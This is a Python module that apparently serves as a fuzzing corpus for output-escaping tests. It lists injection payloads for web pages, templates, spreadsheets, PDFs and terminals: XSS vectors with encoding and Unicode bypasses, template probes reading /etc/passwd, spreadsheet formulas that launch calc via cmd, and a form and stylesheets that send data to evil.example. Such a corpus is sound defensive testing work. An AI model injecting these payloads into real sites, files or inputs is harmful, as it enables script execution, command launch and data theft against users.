"""Texts that would do something if any page, paper, table or terminal took them for more than text.

Made by putting ways out of a context before things that run; RAN is what they would leave behind.
"""

from collections.abc import Iterator, Sequence

RAN = "window.__ran=1"
OUT = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "--!><!--",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</noscript></template>",
    "]]>",
    "*/}}",
)
"""Out of text, an attribute in each kind of quotes, a comment, and what holds raw text."""
RUNNING = (
    f"<script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f"<svg/onload={RAN}>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<math><mtext><mglyph><style><img src onerror={RAN}></style>",
    f"<details open ontoggle={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f'<iframe srcdoc="<script>parent.{RAN.removeprefix("window.")}</script>">',
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    f"<script\n>{RAN}</script\n>",
    f"<sCrIpT>{RAN}</ScRiPt>",
)
QUOTES = ('"', "'", "`", "")
HANDLERS = ("onfocus={} autofocus tabindex=0", "onmouseover={}", "style=x onanimationend={}")
ADDRESSES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java\nscript:{RAN}",
    f"\x01javascript:{RAN}",
    f"javascript&colon;{RAN}",
    f"javascript://x/%0a{RAN}",
    f"data:text/html,<script>opener.{RAN}</script>",
    f"vbscript:{RAN}",
    "//evil.example/",
    "https:evil.example",
)
TEMPLATES = (
    "{{ 7 * 191 }}",
    "{{ page.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# nothing #}",
    "${7 * 191}",
    "`${7 * 191}`",
    "#{7 * 191}",
    "{ $number }",
    "{ DATETIME($number) }",
    '{ "7" }',
    "{number}",
    "{name} { -term }",
    "%s %(name)s %n",
    "{0.__class__}",
    "<%= 7 * 191 %>",
)
SPELLED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"&#x3c;img src=x onerror={RAN}>",
    "&amp;lt;b&amp;gt;",
    "&quot; autofocus onfocus=&quot;",
    "&NewLine;&Tab;&colon;&lpar;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-",
)
LETTERS = (
    f"＜script＞{RAN}＜/script＞",
    f"＂ onfocus=＂{RAN}",
    f"<\x00img src=x onerror={RAN}>",
    f"<img\x00 src=x onerror={RAN}>",
    f"<img src=x onerror={RAN}\x00>",
    f"\u202e<img src=x onerror={RAN}>\u202c",
    f"a\u2028<script>{RAN}</script>\u2029",
    f"\u0130<script>{RAN}</script>",
    f"\ufeff<script>{RAN}</script>",
    f"\x85<img\x0csrc=x\x0bonerror={RAN}>",
    f"<ſcript>{RAN}</ſcript>",
    "\x1b[2J<b>\x9b31m\x07\x08",
)
STYLES = (
    "<style>*{display:none}</style>",
    '"style="position:fixed;inset:0;background:red',
    f"expression({RAN})",
    "}*{background:url(//evil.example)}",
    "@import '//evil.example';",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example";"x")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /c calc'!A0",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '","=1+1',
    ' =1+1;"=1"',
)
PAPER = (
    '<img src="/etc/passwd">',
    "<b>bold, never closed",
    "</para></b></font>",
    f'<a href="javascript:{RAN}">here</a>',
    '<link href="file:///etc/passwd">x</link>',
    '<font color="[[[7 * 191 for x in [1]]]]">x</font>',
    "<seq/><onDraw name=x/><bullet>x</bullet>",
    "(x) Tj /JS (app.alert(1)) ET Q",
    "<< /S /JavaScript /JS (app.alert(1)) >>",
    "\\) endstream endobj",
)
TERMINAL = (
    "[red]red[/red]",
    "[/never opened]",
    "[link=file:///etc/passwd]here[/link]",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07\x1b]8;;file:///etc/passwd\x07x",
    ":skull: \\[b]",
)


def everything() -> Iterator[str]:
    yield from (out + thing for out in OUT for thing in RUNNING)
    for quote in QUOTES:
        for handler in HANDLERS:
            yield f"x{quote} {handler.format(quote + RAN + quote)} x={quote}"
    yield from (*ADDRESSES, *TEMPLATES, *SPELLED, *LETTERS, *STYLES, *FORMULAS, *PAPER, *TERMINAL)


ALL: Sequence[str] = tuple(everything())
FEW: Sequence[str] = (
    f"javascript:1'\"`>--></script></style></textarea></title><svg/onload={RAN}>"
    "{{ 7 * 191 }}{ $number }&lt;b&gt;",
)
"""Most of it, in one text."""
LETTER = 0x4E00
"""The first of many thousand: none stands twice in a text."""
KEPT = " /\\"
"""Blanks part words, and slashes parts of an address, whatever stands between them."""


def harmless(text: str) -> str:
    """As long and as broken into parts, but of letters alone: what a page makes of the one, it makes
    of the other."""
    return "".join(
        chr(LETTER + place) if letter.isprintable() and letter not in KEPT else letter
        for place, letter in enumerate(text)
    )
